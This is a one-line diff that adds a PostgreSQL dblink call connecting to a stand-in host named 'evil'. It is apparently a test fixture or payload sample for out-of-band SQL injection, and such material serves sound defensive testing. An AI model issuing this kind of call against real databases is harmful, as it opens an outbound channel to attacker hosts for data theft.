@@ -1,0 +1,1 @@
+SELECT dblink('host=evil', 'SELECT 1')
